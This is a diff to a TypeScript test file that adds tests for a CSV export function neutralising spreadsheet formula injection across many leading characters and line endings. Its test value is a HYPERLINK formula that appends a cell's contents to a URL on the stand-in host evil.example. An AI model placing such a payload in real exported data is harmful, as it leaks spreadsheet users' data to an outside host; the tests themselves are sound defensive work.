@@ -1,6 +1,6 @@
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
-import { csvFilename, csvResponse, toCsv } from "./csv";
+import { csvFilename, csvResponse, neutraliseCell, toCsv } from "./csv";
 
 describe("toCsv", () => {
   it("quotes commas, quotes and line breaks so the text reads back intact", () => {
@@ -16,6 +16,37 @@ describe("toCsv", () => {
       .data.slice(1)
       .map((row) => row[0]);
     expect(cells).toEqual(['\'=HYPERLINK("x")', "'+1", "'@SUM(A1)"]);
+  });
+  const starts = {
+    "=": "=",
+    "+": "+",
+    "-": "-",
+    "@": "@",
+    tab: "\t",
+    CR: "\r",
+    "＝": "\uFF1D",
+    "＋": "\uFF0B",
+    "－": "\uFF0D",
+    "＠": "\uFF20",
+  };
+  const tails = { nothing: "", LF: "\n", CR: "\r", "U+2028": "\u2028", "U+2029": "\u2029" };
+  for (const [startName, start] of Object.entries(starts)) {
+    for (const [tailName, tail] of Object.entries(tails)) {
+      it(`neutralises a cell that starts with ${startName}, with ${tailName} after the formula`, () => {
+        const value = `${start}HYPERLINK("https://evil.example/?leak="&D3,"Roster help${tail}")${tail}more`;
+        const text = toCsv([{ a: value }], [{ header: "A", value: (r) => r.a }]);
+        // As a spreadsheet reads the file: the cell's text begins with the quote, so it is never a formula.
+        expect(Papa.parse<string[]>(text).data[1]?.[0]).toBe(`'${value}`);
+        expect(neutraliseCell(value)).toBe(`'${value}`);
+      });
+    }
+  }
+  it("leaves text that only contains those characters later, and numbers, as they are", () => {
+    for (const value of ["Lincoln High", "a=b", "O'Brien-Smith", "x@example.org", " =1"]) {
+      expect(neutraliseCell(value)).toBe(value);
+    }
+    expect(neutraliseCell(-12)).toBe(-12);
+    expect(toCsv([{ a: -12 }], [{ header: "A", value: (r) => r.a }])).toBe("A\r\n-12");
   });
   it("writes empty cells for missing values", () => {
     expect(toCsv([{ a: null }], [{ header: "A", value: (r) => r.a }])).toBe("A\r\n");
